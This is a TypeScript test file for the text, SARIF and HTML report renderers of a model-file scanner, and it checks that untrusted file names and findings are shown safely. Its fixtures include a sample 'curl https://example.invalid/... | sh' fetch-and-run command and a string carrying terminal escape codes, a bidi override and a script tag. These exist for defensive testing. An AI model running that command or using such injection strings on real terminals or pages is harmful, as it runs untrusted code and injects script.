import { stripVTControlCharacters } from 'node:util';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { FileReport, Report, Rule } from '#findings';
import { createReport } from '../create-report.ts';
import { displayable } from './displayable.ts';
import { renderBytes, renderDuration } from './quantity.ts';
import { renderHtml } from './render-html.ts';
import { renderSarif } from './render-sarif.ts';
import { renderText } from './render-text.ts';
import { columnsOf } from './text-layout.ts';

const RULES = new Map(
  [
    rule('pickle/dangerous-call', 'malicious', 'critical', 'Loading calls a function that does harm', [502]),
    rule('zip/header-mismatch', 'unsafe', 'high', 'Two readers of the archive see different members', [436]),
    rule('file/misleading-name', 'clean', 'medium', 'The name says another format than the content', []),
  ].map((item) => [item.id, item]),
);

function rule(
  id: string,
  verdict: Rule['verdict'],
  severity: Rule['severity'],
  title: string,
  cwe: number[],
): Rule {
  return {
    id,
    title,
    severity,
    verdict,
    cwe,
    rationale: `${title}, and whoever loads the file runs what its author wrote.`,
    remediation: 'Do not load the file. Ask the publisher for safetensors, or convert it in a sandbox.',
  };
}

function file(path: string, more: Partial<FileReport> = {}): FileReport {
  const coverage = { sizeBytes: 1_234_567, readBytes: 40_000, dataBytes: 1_194_567, gaps: [] };
  return { path, format: 'pickle', verdict: 'clean', findings: [], coverage, ...more };
}

function gap(code: 'unsupported' | 'truncated', detail: string, offset?: number): FileReport['coverage'] {
  return {
    sizeBytes: 900,
    readBytes: 900,
    dataBytes: 0,
    gaps: [{ code, detail, ...(offset === undefined ? {} : { offset }) }],
  };
}

const HOSTILE = 'evil\u001b]0;owned\u0007\u202e<script>alert(1)</script>\n"\'&\u0000';

const REPORT: Report = createReport({ name: 'sallyport', version: '1.2.3', fingerprint: 'f'.repeat(64) }, [
  [
    file('models/evil.pt', {
      format: 'pytorch-zip',
      verdict: 'unsafe',
      findings: [
        {
          rule: 'zip/header-mismatch',
          message: 'the local header of member 3 names another file',
          confidence: 'high',
          place: { offset: 4_096 },
        },
      ],
    }),
    file('models/evil.pt!archive/data.pkl', {
      verdict: 'malicious',
      findings: [
        {
          rule: 'pickle/dangerous-call',
          message: 'os.system (through posix.system) is called: it starts or ends a process',
          confidence: 'high',
          place: { offset: 34 },
          evidence: `posix.system('curl https://example.invalid/${'x'.repeat(120)} | sh')`,
        },
        {
          rule: 'pickle/dangerous-call',
          message: 'builtins.eval is called: it runs code',
          confidence: 'high',
          place: { offset: 90 },
          evidence: "builtins.eval('1')",
        },
      ],
    }),
  ],
  [
    file(HOSTILE, {
      verdict: 'malicious',
      findings: [
        {
          rule: 'pickle/dangerous-call',
          message: HOSTILE,
          confidence: 'low',
          place: { line: 3 },
          evidence: HOSTILE,
        },
      ],
    }),
  ],
  [
    file('models/cut.pkl', {
      verdict: 'undetermined',
      coverage: gap('truncated', 'the file ends inside a frame (byte 812)', 812),
    }),
  ],
  ...['a', 'b', 'c', 'd', 'e', 'f'].map((name) => [
    file(`models/code/${name}.py`, {
      format: 'source',
      verdict: 'undetermined',
      coverage: gap('unsupported', 'source code (Python) is not analysed yet'),
    }),
  ]),
  [
    file('models/weights.gguf', {
      format: 'safetensors',
      findings: [
        {
          rule: 'file/misleading-name',
          message: 'named like GGUF model, but the content is safetensors',
          confidence: 'high',
          place: {},
        },
      ],
    }),
  ],
  [file('models/模型.safetensors', { format: 'safetensors' })],
  [file('models/config.json', { format: 'json' })],
]);

describe('text', () => {
  it('shows the worst first, what it would do, what to do, and folds away what is clean', async () => {
    const text = renderText(REPORT, RULES, { columns: 80, hasColour: false, elapsedMs: 1_234 });
    await expect(text).toMatchFileSnapshot('./golden/report.golden.txt');
  });

  it('colours with the sixteen colours of the terminal, and says the same', async () => {
    const text = renderText(REPORT, RULES, { columns: 80, hasColour: true, elapsedMs: 1_234 });
    await expect(text).toMatchFileSnapshot('./golden/report-colour.golden.txt');
    const plain = renderText(REPORT, RULES, { columns: 80, hasColour: false, elapsedMs: 1_234 });
    expect(stripVTControlCharacters(text)).toBe(plain);
  });

  it('says one line when everything is clean', () => {
    const report = createReport(REPORT.engine, [[file('a')], [file('b')]]);
    expect(renderText(report, RULES, { columns: 80, hasColour: false })).toBe(
      '✓ clean  2 files: 2 clean · 80.0 kB read of 2.5 MB\n',
    );
  });

  it('cuts long reports and tells how much is missing', () => {
    const many = Array.from({ length: 60 }, (_, index) => [
      file(`f${index}`, {
        verdict: 'malicious' as const,
        findings: Array.from({ length: 9 }, () => ({
          rule: 'pickle/dangerous-call',
          message: 'm',
          confidence: 'high' as const,
          place: {},
        })),
      }),
    ]);
    const report = createReport(REPORT.engine, many);
    const text = renderText(report, RULES, { columns: 80, hasColour: false });
    expect(text).toContain('… 35 more files that are not clean; --full shows all');
    expect(text).toContain('… 5 more findings');
    const full = renderText(report, RULES, { columns: 80, hasColour: false, isFull: true });
    expect(full.match(/✗ malicious {2}f\d+/g)).toHaveLength(60);
  });

  it('stays within the width and lets nothing act on the terminal, whatever files are called and hold', () => {
    const nasty = fc.string({ unit: 'binary', maxLength: 300 });
    fc.assert(
      fc.property(
        nasty,
        nasty,
        nasty,
        fc.integer({ min: 40, max: 110 }),
        (path, message, evidence, columns) => {
          const finding = {
            rule: 'pickle/dangerous-call',
            message,
            evidence,
            confidence: 'high' as const,
            place: {},
          };
          const bad = file(path, {
            verdict: 'malicious',
            findings: [finding],
            coverage: gap('truncated', message),
          });
          const report = createReport(REPORT.engine, [
            [bad],
            [file(path, { findings: [{ ...finding, rule: 'file/misleading-name' }] })],
          ]);
          const text = renderText(report, RULES, { columns, hasColour: false });
          expect(text).not.toMatch(/[^\P{C}\n]|\p{Default_Ignorable_Code_Point}/u);
          for (const line of text.split('\n')) expect(columnsOf(line)).toBeLessThanOrEqual(columns);
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('SARIF', () => {
  it('is the log that code hosts read', async () => {
    await expect(renderSarif(REPORT, RULES)).toMatchFileSnapshot('./golden/report.golden.sarif');
  });

  it('refers only to rules that it describes, at places inside files, with fingerprints that differ', () => {
    const [run] = JSON.parse(renderSarif(REPORT, RULES)).runs;
    const ids = run.tool.driver.rules.map(({ id }: { id: string }) => id);
    const prints = run.results.map((result: { partialFingerprints: object }) =>
      JSON.stringify(result.partialFingerprints),
    );
    expect(new Set(prints).size).toBe(run.results.length);
    for (const result of run.results) {
      expect(ids[result.ruleIndex]).toBe(result.ruleId);
      expect(['error', 'warning', 'note', 'none']).toContain(result.level);
      // SARIF 3.27.10: only a failure has a level.
      expect(result.kind === 'open').toBe(result.level === 'none');
      const [{ physicalLocation }] = result.locations;
      expect(physicalLocation.artifactLocation.uri).toMatch(/^[\w./%!'()*-]+$/);
      expect(physicalLocation.region?.startLine ?? 1).toBeGreaterThan(0);
    }
  });

  it('keeps a fingerprint when the file grows in front of what was found', () => {
    const printOf = (offset: number) => {
      const finding = {
        rule: 'pickle/dangerous-call',
        message: 'm',
        evidence: 'e()',
        confidence: 'high' as const,
        place: { offset },
      };
      const report = createReport(REPORT.engine, [
        [file('f', { verdict: 'malicious', findings: [finding] })],
      ]);
      return JSON.parse(renderSarif(report, RULES)).runs[0].results[0].partialFingerprints;
    };
    expect(printOf(10)).toEqual(printOf(20));
  });
});

describe('HTML', () => {
  it('is one page that runs and loads nothing', async () => {
    const html = renderHtml(REPORT, RULES);
    expect(html).toContain("default-src 'none'");
    expect(html).not.toMatch(/<script|<img|<link|<iframe|\son\w+=|javascript:|\bsrc=|\bhref=|url\(/i);
    await expect(html).toMatchFileSnapshot('./golden/report.golden.html');
  });

  it('has no markup but its own, whatever files are called and hold', () => {
    const shape = (html: string) => html.replace(/<style>[\s\S]*<\/style>/, '').match(/<[^>]*>/g);
    const page = (text: string) => {
      const finding = {
        rule: 'pickle/dangerous-call',
        message: text,
        evidence: text,
        confidence: 'high' as const,
        place: {},
      };
      const bad = file(text, { verdict: 'malicious', findings: [finding], coverage: gap('truncated', text) });
      return renderHtml(createReport(REPORT.engine, [[bad]]), RULES);
    };
    const nasty = fc.string({
      unit: fc.constantFrom(...'<>"\'&/=! ;script-`\u0000\u202e\ud800'),
      maxLength: 80,
    });
    const plain = shape(page('x'));
    fc.assert(
      fc.property(nasty, (text) => {
        expect(shape(page(text))).toEqual(plain);
      }),
    );
  });
});

describe('small renderings', () => {
  it('shows hidden characters by their code', () => {
    expect(displayable('a\u001b[31m\u202eb\u200bc\u00add\ufe0f\u{e0001}\ud800')).toBe(
      'a\\x1b[31m\\u202eb\\u200bc\\xadd\\ufe0f\\u{e0001}\\ud800',
    );
    expect(displayable(`a${'\u0301'.repeat(50)}`)).toBe(`a${'\u0301'.repeat(4)}…`);
    expect(displayable('Modell für 模型 🤗')).toBe('Modell für 模型 🤗');
  });

  it.each([
    [0, '0 B'],
    [999, '999 B'],
    [1_000, '1.0 kB'],
    [99_949, '99.9 kB'],
    [99_950, '100 kB'],
    [999_499, '999 kB'],
    [999_500, '1.0 MB'],
    [4_300_000_000, '4.3 GB'],
  ])('renders %d bytes as %s', (bytes, text) => expect(renderBytes(bytes)).toBe(text));

  it.each([
    [12.4, '12 ms'],
    [1_250, '1.3 s'],
    [61_000, '1 min 1 s'],
  ])('renders %d ms as %s', (ms, text) => expect(renderDuration(ms)).toBe(text));
});
